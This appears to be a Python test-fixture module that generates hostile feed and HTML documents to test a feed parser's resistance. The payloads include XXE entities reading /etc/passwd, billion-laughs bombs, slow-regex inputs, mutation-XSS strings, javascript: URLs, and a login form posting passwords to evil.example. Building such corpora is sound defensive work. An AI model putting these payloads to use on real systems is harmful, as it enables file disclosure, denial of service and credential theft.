"""Documents made to hurt who reads them, by what they do; and what must come of each.

Pairs of a name and a document, or the fragment that it consists of. They are sound feeds but for
the one thing they are named after, unless that thing is the whole document.
"""

import itertools
import json
from html import escape

SENTINEL = "what a reader is meant to see"
"""Stands in every entry beside what it hides."""


def channel(inside, *, title="A feed"):
    namespaces = (
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"'
        ' xmlns:media="http://search.yahoo.com/mrss/"'
        ' xmlns:atom="http://www.w3.org/2005/Atom"'
        ' xmlns:xi="http://www.w3.org/2001/XInclude"'
    )
    return (
        f'<rss version="2.0" {namespaces}><channel><title>{title}</title>{inside}</channel></rss>'
    )


def item(inside="", *, described=""):
    """Return a feed of one entry with `inside` in it, and markup in its body."""
    body = escape(f"<p>{SENTINEL}</p>{described}")
    return channel(
        f"<item><guid>1</guid><title>An entry</title>{inside}<description>{body}</description></item>"
    )


def json_item(**fields):
    entry = {"id": "1", "title": "An entry", "content_html": f"<p>{SENTINEL}</p>"} | fields
    return json.dumps(
        {"version": "https://jsonfeed.org/version/1.1", "title": "A feed", "items": [entry]}
    )


def with_doctype(entities, inside, *, external=""):
    return f"<!DOCTYPE rss {external}[{entities}]>{inside}"


def paths():
    """Bodies that name a file: whoever takes a body for an address reads it."""
    return {
        f"the body {path!r}": path for path in ("/etc/passwd", "/dev/zero", "file:///etc/passwd")
    }


def inclusions(secret, canary):
    """Documents that ask their reader to fetch something: a secret file, or a canary."""
    use = item("<category>&x;</category>", described="&x;")
    parameter = f'<!ENTITY % p SYSTEM "{canary}p"> %p; <!ENTITY % q SYSTEM "{secret}"> %q;'
    declared = {
        "an entity that is a file": with_doctype(f'<!ENTITY x SYSTEM "{secret}">', use),
        "an entity that is an address": with_doctype(f'<!ENTITY x SYSTEM "{canary}x">', use),
        "entities for the declaration": with_doctype(parameter, use),
        "a declaration elsewhere": with_doctype("", use, external=f'SYSTEM "{canary}dtd" '),
        "a declaration in a file": with_doctype("", use, external=f'PUBLIC "-//x" "{secret}" '),
    }
    everywhere = "".join(
        [
            f"<link>{canary}site</link><image><url>{canary}image</url></image><docs>{canary}</docs>",
            f'<atom:link rel="hub" href="{canary}hub"/><atom:link rel="self" href="{canary}self"/>',
            f"<item><guid>1</guid><link>{canary}entry</link><comments>{canary}c</comments>",
            f'<enclosure url="{canary}file" type="audio/mpeg" length="1"/>',
            f'<media:thumbnail url="{canary}thumbnail"/><itunes:image href="{canary}i"/>',
            f"<description>{SENTINEL} {escape(f'<img src={canary}shown>')}</description></item>",
        ]
    )
    return declared | {
        "a style sheet": f'<?xml-stylesheet href="{canary}style" type="text/xsl"?>' + item(),
        "an inclusion of text": item(
            f'<category><xi:include parse="text" href="{secret}"/></category>'
        ),
        "a schema elsewhere": item(
            '<category xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
            f' xsi:schemaLocation="x {canary}schema">c</category>'
        ),
        "an address in every place": channel(everywhere),
    }


def amplifiers():
    """Documents of a few kilobytes that are gigabytes to who believes their entities."""
    names = [f"e{number}" for number in range(10)]
    laughs = '<!ENTITY e0 "lol">' + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in itertools.pairwise(names)
    )
    bombs = {
        "a billion laughs": with_doctype(laughs, item("<category>&e9;</category>")),
        "one entity many times": with_doctype(
            f'<!ENTITY a "{"A" * 50_000}">', item(f"<category>{'&a;' * 20_000}</category>")
        ),
        "small entities many times": with_doctype(
            f'<!ENTITY a "{"A" * 1000}">', item(described="&a;" * 100_000)
        ),
        "one entity for the loose parser": with_doctype(
            f'<!ENTITY a "{"A" * 50_000}">',
            item(f"<category>{'&a;' * 20_000}</category>") + "<unclosed>&",
        ),
        "entities in a circle": with_doctype(
            '<!ENTITY a "&b;"><!ENTITY b "&a;">', item("<category>&a;</category>")
        ),
        "an entity with a backslash": with_doctype('<!ENTITY a "\\g<9>">', item(described="&a;")),
        "a declared element without end": with_doctype(f"<!ELEMENT a {'(' * 500_000}", item()),
    }
    encoded = {
        f"{name}, in {codec}": f'<?xml version="1.0" encoding="{codec}"?>{bombs[name]}'.encode(
            codec
        )
        for name in ("a billion laughs", "one entity for the loose parser")
        for codec in ("utf-16", "cp037")
    }
    return bombs | encoded


def endless_patterns():
    """Documents over which a regular expression, or a loop, takes quadratic time or worse."""
    names = ("author", "managingEditor", "dc:creator", "itunes:author")
    authors = {f"a long {name}": item(f"<{name}>{'a' * 80_000}</{name}>") for name in names}
    return authors | {
        "a long webMaster": channel(
            f"<webMaster>{'a' * 80_000}</webMaster><item/>", title=SENTINEL
        ),
        "many lines before the root": "\n" * 400_000 + item(),
        "a declaration that goes on": "<?xml " + "encoding='x" * 40_000 + "?>" + item(),
        "entities that do not end": "<!DOCTYPE a [" + "<!ENTITY a 'x" * 40_000 + item(),
        "sections that do not end": item() + "<![CDATA[" * 50_000,
        "references that do not end": item("<category>" + "&#" * 200_000 + "</category>"),
        "a style of blanks": item(described=f'<p style="a{" " * 200_000}a">x</p>'),
        "comments that do not end": item(described="<!--" * 40_000),
        "tags that do not end": item(described='<a href="x' * 40_000),
        "dollars": item(described="$a " * 100_000),
        "brackets": item(described="\\(" * 100_000 + "\\begin{align}" * 5000),
        "a title of tags": item(f"<title>{escape('<b ' * 300_000)}</title>"),
        "a date of digits": item(f"<pubDate>{'1' * 200_000}</pubDate>"),
        "a label of dashes": item(f"<language>{'en-' * 100_000}</language>"),
        "an address of dots": item(f"<link>http://{'a.' * 100_000}/</link>"),
        "a place that is none": item(
            '<p:Point xmlns:p="http://www.opengis.net/gml" srsName="EPSG:x"><p:pos>1 2</p:pos></p:Point>'
        ),
    }


def masses():
    """Documents in which one thing stands a great many times, or is very large."""
    attributes = " ".join(f"a{number}=''" for number in range(100_000))
    spaces = " ".join(f"xmlns:n{number}='urn:{number}'" for number in range(4000))
    return {
        "elements in elements": item("<a>" * 100_000 + "</a>" * 100_000),
        "elements that are never closed": item("<a>" * 100_000),
        "bases in bases": item("<a xml:base='aaaaaaaaaa/'>" * 20_000 + "</a>" * 20_000),
        "names and names": item(f"<a {spaces}>{'<b/>' * 4000}</a>"),
        "attributes": item(f"<a {attributes}/>"),
        "an attribute of 5 MB": item(f'<category domain="{"x" * 5_000_000}">c</category>'),
        "a guid of 8 kB": item().replace("<guid>1", f"<guid>{'g' * 8192}"),
        "a title of 5 MB": item(f"<title>{'word ' * 1_000_000}</title>"),
        "a body of 12 MB": item(described="<p>some words</p>" * 400_000),
        "categories": item("".join(f"<category>c{number}</category>" for number in range(100_000))),
        "enclosures": item('<enclosure url="https://example.org/a" length="1"/>' * 30_000),
        "an enclosure of impossible size": item(
            f'<enclosure url="https://example.org/a.mp3" length="{2**63}"/>'
            f'<enclosure url="https://example.org/b.mp3" length="{"9" * 5000}"/>'
            '<enclosure url="https://example.org/c.mp3" length="-1"/>'
        ),
        "entries": channel(
            "".join(f"<item><guid>{number}</guid></item>" for number in range(200_000)),
            title=SENTINEL,
        ),
        "JSON in JSON": "[" * 100_000,
        "JSON in an extension": json_item()[:-1] + ', "_x": ' + "[" * 100_000,
        "JSON of one number": json_item(date_published=1)[:-1] + ', "_x": ' + "9" * 100_000 + "}",
    }


def floods():
    """Documents as large as can be, of as little as can be."""
    head = "<rss version='2.0'><channel><title>A feed</title>"
    words = escape("<p>Tides and lights</p>") * 200_000
    return {
        "two million empty entries": head + "<item/>" * 2_200_000 + "</channel></rss>",
        "half a million entries": channel(
            "".join(f"<item><guid>{number}</guid></item>" for number in range(480_000))
        ),
        "four million elements": head + "<a/>" * 3_900_000 + "</channel></rss>",
        "five million elements in each other": head + "<a>" * 5_000_000,
        "five million references": item(f"<category>{'&a;' * 5_000_000}</category>"),
        "fifteen million ampersands": item(f"<category>{'&' * 15_000_000}</category>"),
        "one emoji in 8 MB": item(f"<category>\U0001f600</category>{words}"),
        "JSON of empty entries": json_item()[:-2] + ", {}" * 4_000_000 + "]}",
        "JSON of empty lists": json_item()[:-1] + ', "_x": [' + "[]," * 5_000_000 + "0]}",
        "a title of UTF-16": item(f"<title>{'x' * 7_000_000}</title>").encode("utf-16"),
    }


def burdens():
    """HTML that costs its parser far more time or memory than it is long."""
    return {
        "blocks in blocks": "<div>" * 90_000,
        "formatting in every block": "<b><i><u><s><p>" * 3000,
        "formatting that is never the same": "".join(
            f"<p><b id=i{number}>x" for number in range(4000)
        ),
        "the same formatting in every paragraph": "<p><b id=i>x" * 4000,
        "an element of 100,000 attributes": f"<p {' '.join(f'a{n}=1' for n in range(100_000))}>x",
        "a table of tables": "<table><tr><td>" * 20_000,
        "formulas in formulas": "<math>" + "<mrow>" * 50_000,
        "code in code": "<pre><code>" * 20_000,
        "drawings in drawings": "<svg><g>" * 40_000,
        "pictures with far addresses": '<base href="http://example.org/"><img src=a>' * 8000,
        "ruby without end": "<ruby><rt>" * 30_000,
        "options without end": "<select><option>" * 30_000,
        "forms without end": "<form><input>" * 30_000,
        "ends without beginning": "</p></b></div>" * 50_000,
        "one long word": "x" * 900_000,
        "marks on one letter": "e" + "\u0301" * 400_000,
        "a formula of 100,000 braces": "$" + "{" * 50_000 + "x" + "}" * 50_000 + "$",
        "fractions in fractions": "$" + "\\frac{" * 300 + "1" + "}{2}" * 300 + "$",
        "ampersands": "&" * 400_000,
        "lists in lists": "<ul><li>" * 20_000,
    }


SCHEMES = {
    "a script": "javascript:alert(1)",
    "a script behind a line": "java\nscript:alert(1)",
    "a script behind a control": "\x01javascript:alert(1)",
    "a script in references": "&#106;avascript&colon;alert(1)",
    "a script in capitals": "JaVaScRiPt:alert(1)",
    "another script": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "a picture of data": "data:image/svg+xml,<svg onload=alert(1)>",
    "a file": "file:///etc/passwd",
    "a share": "smb://host.example/share",
    "a player's script": "javascript://youtube.com/%0Aalert(1)",
}
"""Addresses that nobody may follow."""


def linked(address):
    """Return documents with `address` in every place that takes one, by format."""
    url = escape(address)
    inside = "".join(
        [
            f"<link>{url}</link><guid isPermaLink='true'>{url}</guid><comments>{url}</comments>",
            f"<author>{url}</author><dc:creator>{url}</dc:creator><source url='{url}'>s</source>",
            f"<category domain='{url}'>{url}</category><itunes:image href='{url}'/>",
            f"<enclosure url='{url}' type='text/html' length='1'/><media:thumbnail url='{url}'/>",
            f"<media:content url='{url}' medium='image'/><media:player url='{url}'/>",
            f"<atom:link rel='alternate' href='{url}'/><atom:link rel='enclosure' href='{url}'/>",
        ]
    )
    head = (
        f"<link>{url}</link><image><url>{url}</url><link>{url}</link></image><docs>{url}</docs>"
        f"<generator>{url}</generator><itunes:image href='{url}'/><webMaster>{url}</webMaster>"
    )
    body = escape(f"<p>{SENTINEL}</p>") + escape(_using(escape(address)))
    entry = f"<item><title>{url}</title>{inside}<description>{body}</description></item>"
    atom = (
        f'<feed xmlns="http://www.w3.org/2005/Atom" xml:base="{url}"><id>{url}</id><title>t</title>'
        f'<link href="{url}"/><icon>{url}</icon><logo>{url}</logo><generator uri="{url}">g</generator>'
        f'<entry xml:base="{url}"><id>{url}</id><title type="html">{escape(url)}</title>'
        f'<author><name>{url}</name><uri>{url}</uri></author><category scheme="{url}" term="{url}"/>'
        f'<link href="{url}"/><link rel="enclosure" href="{url}"/><content type="html">{body}</content>'
        f'</entry><entry><id>2</id><title>t</title><content type="text/html" src="{url}"/></entry></feed>'
    )
    fields = dict.fromkeys(("url", "external_url", "image", "banner_image"), address)
    people = [{"name": address, "url": address, "avatar": address}]
    files = [{"url": address, "mime_type": "text/html", "size_in_bytes": 1}]
    html = f"<p>{SENTINEL}</p>" + _using(escape(address))
    return {
        "RSS": channel(head + entry),
        "Atom": atom,
        "JSON": json_item(
            **fields, authors=people, attachments=files, tags=[address], content_html=html
        ),
    }


def _using(url):
    return (
        f'<a href="{url}">a</a><img src="{url}" srcset="{url} 2x" longdesc="{url}">'
        f'<video src="{url}" poster="{url}"><source src="{url}"><track src="{url}"></video>'
        f'<q cite="{url}">q</q><blockquote cite="{url}">b</blockquote><del cite="{url}">d</del>'
        f'<table background="{url}"><td background="{url}">x</table><iframe src="{url}"></iframe>'
        f'<form action="{url}"><button formaction="{url}">x</button></form><object data="{url}">'
        f'<embed src="{url}"><svg><a xlink:href="{url}"><image href="{url}"/></a></svg>'
        f'<math href="{url}"><mi href="{url}">x</mi></math><audio src="{url}"></audio>'
        f'<link rel="stylesheet" href="{url}"><base href="{url}"><a ping="{url}" href="/x">y</a>'
    )


SCRIPTS = {
    "a script": "<script>alert(1)</script>",
    "a script in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a handler": '<img src=x onerror=alert(1)><p onclick="alert(1)" onMouseOver=x>x</p>',
    "a handler behind a slash": "<img/src=x/onerror=alert(1)><svg/onload=alert(1)>",
    "a handler without a space": '<img src="x"onerror="alert(1)">',
    "a body": "<body onload=alert(1)><frameset onload=alert(1)>",
    "mutation by svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation by math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by a frame": '<svg><iframe><a title="</iframe><img src=x onerror=alert(1)>">',
    "mutation by an annotation": (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>'
    ),
    "mutation by a text area": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "mutation by a title": '<title><p title="</title><img src=x onerror=alert(1)>">',
    "mutation by xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "mutation by a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x>",
    "mutation by a select": "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror=x>'>",
    "mutation by a comment": "<!--><img src=x onerror=alert(1)>--><!--!><script>x</script>-->",
    "mutation by a section": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "an animated link": (
        '<svg><a xlink:href="https://example.org/"><set attributeName="href" to="javascript:x"/>'
        '<animate attributeName="href" values="javascript:x"/>x</a>'
    ),
    "a document in a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="data:text/html,x"></object><embed src="x.swf"><applet code=x>',
    "a set of pictures": '<img srcset="http:a<script>alert(1)</script> 1x" src="/a.png">',
    "an overlay": '<div style="position:fixed;inset:0;z-index:9;background:url(http://evil)">x</div>',
    "an expression": '<p style="width:expression(alert(1));behavior:url(x)">x</p>',
    "a style sheet": "<style>@import 'http://evil.example/x.css';body{display:none}</style>",
    "a linked style sheet": '<link rel=stylesheet href="http://evil.example/x.css">',
    "a name for our own": '<p id="content" class="button" name="x">x</p><a name=body>x</a>',
    "a refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "a base": '<base href="http://evil.example/" target="_top"><a href="x">x</a>',
    "a form": '<form action="http://evil.example/"><input name=password><button>Log in</button></form>',
    "a dialog": "<dialog open><template><script>x</script></template><slot name=x></dialog>",
    "a window of its own": '<a href="https://example.org/" target="_blank" rel="opener" ping="/p">x</a>',
    "an end of everything": "</p></div></article></main></body></html><p>x",
    "a comment without end": "x<!-- y",
    "text without end": "x<plaintext>y",
    "a condition": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "an address of another protocol": '<a href="//evil.example">x</a><a href="/\\evil.example">y</a>',
    "TeX with a link": r"$\href{javascript:alert(1)}{x}$ $\text{<script>alert(1)</script>}$",
    "TeX with a style": r'$\style{position:fixed}{x}$ $\class{x" onload="y}{z}$',
    "MathML with handlers": (
        '<math><mi onclick="x" style="x" href="javascript:x">x</mi>'
        '<maction actiontype="statusline" xlink:href="javascript:x"><mtext><script>x</script>'
    ),
    "code that is markup": (
        '<pre class="language-html"><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>'
        '<pre class="language-x onclick=alert(1)"><code data-lang=\'"><img onerror=x>\'>y</code></pre>'
    ),
    "a picture with markup": '<img src="/a.png" alt="&quot;&gt;&lt;script&gt;" title=\'"><script>\'>',
    "controls in names": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x on\x00error=alert(1)>",
    "a link behind controls": '<a href="java\x00script:alert(1)">x</a><a href="&Tab;javascript:x">y</a>',
}
"""HTML that would do something, were it shown as it is."""


def types():
    """Bodies that say they are of a type that is not to be shown."""
    script = escape("<script>alert(1)</script>")
    bodies = {
        "a drawing": 'type="image/svg+xml"><svg xmlns="http://www.w3.org/2000/svg" onload="x"/>',
        "base64 of anything": 'type="application/octet-stream">PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
        "base64 of HTML": 'type="text/html" mode="base64">PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
        "a script": f'type="text/javascript">{script}',
        "XHTML with a script": (
            'type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>'
            '<p onclick="x" style="x">y</p><svg xmlns="http://www.w3.org/2000/svg"><script>z</script></svg></div>'
        ),
        "text that looks like a script": f'type="text">{script}',
    }
    head = '<feed xmlns="http://www.w3.org/2005/Atom"><id>urn:x</id><title>t</title>'
    return {
        name: f"{head}<entry><id>1</id><title>{SENTINEL}</title><content {body}</content></entry></feed>"
        for name, body in bodies.items()
    }


def characters():
    """Documents with characters that no database, no XML and no reader can take."""
    strange = {
        "NUL": "a\0b",
        "a reference to NUL": "a&#0;b",
        "C0 controls": "a" + "".join(map(chr, range(1, 32))) + "b",
        "references to controls": "a&#x1F;&#8;&#x1b;[31mb",
        "an escape": "\x1b]0;owned\x07\x1b[31mred",
        "C1 controls": "a\x80\x85\x9b\x9fb",
        "a reference to a surrogate": "a&#xD800;b&#xDFFF;c",
        "a reference to no character": "a&#xFFFE;b&#x110000;c&#99999999999;d&#x;e",
        "noncharacters": "a\ufffe\uffff\ufdd0\U0001fffe\U0010ffffb",
        "a mark in the middle": "a\ufeffb\u200bc\u2060d",
        "an override": "safe \u202egnp.exe \u202d\u202a\u2066\u2067\u2068 b",
        "separators of lines": "a\u2028b\u2029c\x0bd\x0ce",
        "marks without end": "a" + "\u0301" * 5000,
    }
    documents = {
        f"{name} in every text": item(
            f"<title>{text}</title><author>{text}</author><category>{text}</category>"
            f"<link>https://example.org/{text}</link><comments>{text}</comments>"
            f'<enclosure url="https://example.org/{text}" type="{text}" length="{text}"/>'
        ).replace("<guid>1", f"<guid>{text}")
        for name, text in strange.items()
    }
    inner = {
        f"{name} in a body": item(
            described=f"<p title='{text}'>{text}</p><pre>{text}</pre><math><mi>{text}</mi></math>"
            f"$\\text{{{text}}}$<img src='/{text}' alt='{text}'>"
        )
        for name, text in strange.items()
    }
    texts = ["\ud800", "a\0b", "\ufffe", "\udfff\ud800", "\x1b[31m"]
    escaped = {
        f"JSON with {text!a}": json_item(
            id=f"{text}1", title=text, url=f"https://example.org/{text}", tags=[text], language=text
        )
        for text in texts
    }
    encoded = {
        "surrogates in UTF-8": item()
        .replace("An entry", "a\ud800b")
        .encode(errors="surrogatepass"),
        "UTF-8 that is too long": item()
        .encode()
        .replace(b"An entry", b"a\xc0\xafb\xf8\x88\x80\x80\x80c"),
        "UTF-16 cut in two": item().encode("utf-16")[:-1],
        "UTF-16 with half a pair": item()
        .encode("utf-16-le")
        .replace("An".encode("utf-16-le"), b"\x00\xd8x\x00"),
    }
    odd = {
        "JSON null": "null",
        "JSON of a list": "[]",
        "JSON whose items are none": '{"version": "https://jsonfeed.org/version/1", "items": {}}',
        "JSON of wrong types": json_item(id=[1], title={}, tags="x", authors="y", url=7),
        "JSON of no numbers": json_item().replace('"1"', "NaN").replace('"An entry"', "1e999"),
        "JSON of a long number": json_item().replace('"1"', "1" * 5000),
        "JSON and something more": json_item() + "}}<rss>",
        "JSON in UTF-16": json_item().encode("utf-16"),
    }
    labels = {
        f"the label {label!a}": f'<?xml version="1.0" encoding="{label}"?>' + item()
        for label in (
            "undefined",
            "unicode_escape",
            "utf-7",
            "punycode",
            "zlib",
            "a\0b",
            "x" * 10_000,
        )
    }
    return documents | inner | escaped | encoded | odd | labels


REFUSED = {
    **dict.fromkeys(paths(), "plain text, not a feed"),
    "JSON in JSON": "it nests too deep",
    "JSON in an extension": "it nests too deep",
    "JSON null": "plain text, not a feed",
    "JSON of a list": "no JSON Feed",
    "JSON whose items are none": "no JSON Feed",
}
"""What is no feed, and the words of its error; everything else is read."""

COSTLY = frozenset(
    {
        *endless_patterns(),
        *masses(),
        *burdens(),
        "UTF-16 cut in two",
        "UTF-16 with half a pair",
    }
)
"""What may also cost its source an error, for the time or the damage: on slow machines, that is."""
